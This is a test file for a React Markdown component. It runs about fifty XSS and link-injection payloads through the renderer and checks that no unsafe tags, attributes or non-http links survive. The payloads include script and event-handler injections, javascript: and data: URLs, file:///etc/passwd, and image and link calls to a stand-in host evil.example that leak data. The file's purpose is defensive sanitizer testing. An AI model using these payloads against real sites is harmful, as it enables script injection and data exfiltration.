import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { Markdown } from "./Markdown";

afterEach(cleanup);

/** T-62: what a repository, a log or a model may try. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=https://evil.example></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import 'https://evil.example'</style>",
  "<base href=https://evil.example>",
  "<form action=https://evil.example><input name=q></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext></p><style><img src onerror=alert(1)>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x](//evil.example/x)",
  "[x](/api/v1/apps)",
  "[x](https:evil)",
  '[x](https://a.example/" onmouseover="alert(1))',
  "[x](https://a.example/'onclick=alert(1))",
  '[x](https://a.example "onclick=alert(1)")',
  "[<img src=x onerror=alert(1)>](https://a.example)",
  "![x](https://evil.example/?leak=1)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '![x](https://evil.example/1.png "title")',
  "[![x](https://evil.example/1.png)](https://evil.example)",
  "![x][ref]\n\n[ref]: https://evil.example/1.png",
  "<https://evil.example/?q=secret>",
  "<javascript:alert(1)>",
  "https://evil.example/<script>alert(1)</script>",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "```js onload=alert(1)\nx\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "# <img src=x onerror=alert(1)>",
  "- <img src=x onerror=alert(1)>",
  "> <img src=x onerror=alert(1)>",
  "**<img src=x onerror=alert(1)>**",
  "*[x](javascript:alert(1))*",
  "\\[x](javascript:alert(1))",
  "[x\\](javascript:alert(1))",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "\u202e[moc.buhtig](https://evil.example)",
];
const ALLOWED = new Set(
  "DIV P H4 FIGURE FIGCAPTION PRE CODE SPAN BUTTON UL OL LI BLOCKQUOTE HR STRONG EM A BDI".split(" "),
);
const ATTRIBUTES = new Set(["class", "type", "tabindex", "start", "href", "target", "rel"]);

describe("nothing becomes markup, is loaded, or leads anywhere but to http", () => {
  it.each(HOSTILE)("%j", (text) => {
    const { container } = render(<Markdown text={text} />);
    for (const element of container.querySelectorAll("*")) {
      expect(ALLOWED).toContain(element.tagName);
      for (const { name } of element.attributes) expect(ATTRIBUTES).toContain(name);
      if (element instanceof HTMLAnchorElement) {
        expect(element.protocol).toMatch(/^https?:$/);
        expect(element.origin).not.toBe(location.origin);
        expect(element.rel).toBe("noopener noreferrer nofollow");
        expect(element.parentElement?.textContent).toContain(element.host);
      }
    }
  });
});

it("the text of a link cannot turn round the order of what follows it", () => {
  const { container } = render(<Markdown text={"[\u202emoc.buhtig](https://evil.example)"} />);
  expect(container.textContent).toBe("\\u{202e}moc.buhtig (evil.example)");
});
